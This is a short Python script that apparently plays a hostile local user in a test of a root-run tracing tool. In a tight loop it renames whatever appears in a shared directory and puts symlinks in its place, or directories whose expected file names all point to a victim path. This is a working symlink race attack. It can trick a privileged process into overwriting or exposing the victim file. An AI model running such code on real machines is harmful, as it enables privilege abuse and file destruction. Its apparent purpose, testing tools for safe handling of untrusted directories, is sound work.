"""Another user of the machine, who owns a directory that root writes to: renames what appears in it and puts links in
its place, until killed."""

import os
import sys
import time

place, victim = sys.argv[1:3]
count = 0
open(os.path.join(place, "moved-0"), "w").close()
while True:
    # Others work on this machine, too.
    time.sleep(0.0005)
    for name in os.listdir(place):
        path = os.path.join(place, name)
        if name.startswith("moved-") or os.path.islink(path):
            continue
        try:
            count += 1
            os.rename(path, os.path.join(place, f"moved-{count}"))
            if count % 2:
                os.symlink(os.path.dirname(victim), path)
            else:
                # The folder is replaced by one of ours, in which every name that may be meant leads to the victim.
                os.mkdir(path)
                for inner in ("trace.strace", "trace.bpftrace", "tracer.log", "facts-before.txt"):
                    os.symlink(victim, os.path.join(path, inner))
        except OSError:
            continue
    for name in sys.argv[3:]:
        try:
            os.symlink(victim, os.path.join(place, name))
        except OSError:
            pass
        if count % 3 == 0:
            try:
                os.unlink(os.path.join(place, name))
            except OSError:
                pass
